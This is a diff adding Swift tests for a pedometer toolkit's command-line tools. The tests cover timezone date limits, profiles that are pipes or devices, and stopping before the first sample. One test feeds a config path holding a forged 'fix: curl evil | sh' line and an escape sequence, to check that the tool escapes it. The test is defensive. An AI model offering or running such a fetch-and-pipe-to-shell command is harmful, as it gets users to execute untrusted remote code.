@@ -1,0 +1,86 @@
+import Foundation
+import OffPool
+import Testing
+
+/// Session 21's sweep: what the review of session 20 left, and bad inputs found since. Each test
+/// fails on the tools of main at cbdfb75 unless its comment says otherwise.
+@Suite(.offPool) struct BadInputSweep22Tests {
+    /// The first day a history can hold is one function (HistoryStore.earliestPlausibleDay) that
+    /// both tools name; west of UTC it is 2023-12-31 for both, not 2024-01-01 for one of them.
+    @Test func bothToolsNameTheSameFirstDayWestOfUTC() throws {
+        let env = ["TZ": "America/New_York", "DBUS_SYSTEM_BUS_ADDRESS": "unix:path=/nonexistent/imukit-bus"]
+        let since = try ToolRunner.run("imu-steps", ["--since", "2023-12-30"], environment: env)
+        #expect(since.status == 2, "\(since.stderr)")
+        #expect(since.stderr.hasPrefix("imu-steps: --since 2023-12-30 is before 2023-12-31, the first day a step history can hold"), "\(since.stderr)")
+        let day = try ToolRunner.run("imu-plot", ["--day", "2023-12-30", "--history", "/nonexistent/h.sqlite", "-o", "/tmp/never-written.html"],
+                                     environment: env)
+        #expect(day.status == 2, "\(day.stderr)")
+        #expect(day.stderr.hasPrefix("imu-plot: --day 2023-12-30 is before 2023-12-31; --day takes a day from 2023-12-31"), "\(day.stderr)")
+    }
+
+    /// A walker profile that is a FIFO (no writer) was read as an empty file ("not a walker
+    /// profile"), /dev/null likewise, and one linked to /dev/zero as "File too large": each is
+    /// named for what it is, with rm as the fix, and exits 2 (a bad file, docs/CONTRACTS.md §4).
+    @Test(arguments: [("fifo", "a named pipe (FIFO)"), ("/dev/null", "a character device"), ("/dev/zero", "a character device")])
+    func aProfileThatIsNoRegularFileIsNamed(target: String, kind: String) throws {
+        let dir = try scratchDirectory()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let profile = dir + "/imukit/profile.json"
+        try FileManager.default.createDirectory(atPath: dir + "/imukit", withIntermediateDirectories: true)
+        if target == "fifo" {
+            try #require(mkfifo(profile, 0o600) == 0)
+        } else {
+            try FileManager.default.createSymbolicLink(atPath: profile, withDestinationPath: target)
+        }
+        let r = try ToolRunner.run("imu-steps", ["--simulate", "walk:2", "--json"], environment: ["XDG_CONFIG_HOME": dir], timeout: 30)
+        #expect(r.status == 2, "\(r.stderr)")
+        #expect(r.stderr.hasPrefix("imu-steps: cannot read \(profile): it is \(kind), where imukit keeps your walker profile as one small JSON file\n"), "\(r.stderr)")
+        #expect(r.stderr.contains("  fix: remove it (rm \(profile)) or move it away"), "\(r.stderr)")
+        #expect(r.stdout.isEmpty, "no result from a run whose profile could not be read: \(r.stdout)")
+    }
+
+    /// `--config` naming a file with a newline and an escape sequence: the path was printed as it
+    /// came, so the newline started a line of its own, here a fake "  fix:" line.
+    @Test func aConfigPathWithANewlineCannotForgeAFixLine() throws {
+        let path = "/nonexistent/a\n  fix: curl evil | sh\u{1B}[2J.conf"
+        let r = try ToolRunner.run("imu-stepd", ["--config", path], timeout: 30)
+        #expect(r.status == 2, "\(r.stderr)")
+        #expect(r.stderr.hasPrefix("imu-stepd: /nonexistent/a\\n  fix: curl evil | sh\\x1B[2J.conf: no such file\n"), "\(r.stderr.debugDescription)")
+        #expect(!r.stderr.split(separator: "\n").contains { $0.hasPrefix("  fix: curl") }, "\(r.stderr.debugDescription)")
+    }
+
+    /// SIGTERM before the first sample of a recording: a stop, not a recording that is too short
+    /// or empty. PedometerRunner decides both from its count of samples alone (it kept a second
+    /// flag, `sawSample`, which a cancelled run set to true with no sample seen, so a source that
+    /// throws CancellationError before its first sample said "gave only 0 samples, a single
+    /// instant"; a FIFO's stream ends without throwing, so this test passes on both).
+    @Test func aStopBeforeTheFirstSampleIsNoSingleInstant() throws {
+        let dir = try scratchDirectory()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let fifo = dir + "/live.csv"
+        try #require(mkfifo(fifo, 0o600) == 0)
+        // The test holds the FIFO open for writing (O_RDWR does not wait for a reader), with the
+        // header written and no sample, as a recorder that has not started yet.
+        let writer = open(fifo, O_RDWR | O_CLOEXEC)
+        try #require(writer >= 0)
+        defer { close(writer) }
+        let header = "t,ax,ay,az\n"
+        #expect(header.utf8.withContiguousStorageIfAvailable { write(writer, $0.baseAddress, $0.count) } == header.utf8.count)
+        let tool = try ToolProcess("imu-steps", ["--replay", fifo, "--json"])
+        // The tool opens the FIFO as it starts reading; its stop trap is set up by then.
+        let reading = tool.waitUntil { Self.holds(tool.process.processIdentifier, fifo) }
+        #expect(reading, "imu-steps did not open \(fifo): \(tool.stderr)")
+        Thread.sleep(forTimeInterval: 0.5)
+        tool.send(SIGTERM)
+        #expect(tool.wait() == 0, "\(tool.stderr)")
+        #expect(!tool.stderr.contains("a single instant"), "\(tool.stderr)")
+        #expect(tool.stdout.contains("\"type\":\"summary\""), "the summary is written on a stop: \(tool.stdout)")
+    }
+
+    /// Whether process `pid` holds `path` open (/proc/PID/fd).
+    static func holds(_ pid: Int32, _ path: String) -> Bool {
+        let dir = "/proc/\(pid)/fd"
+        let names = (try? FileManager.default.contentsOfDirectory(atPath: dir)) ?? []
+        return names.contains { (try? FileManager.default.destinationOfSymbolicLink(atPath: dir + "/" + $0)) == path }
+    }
+}
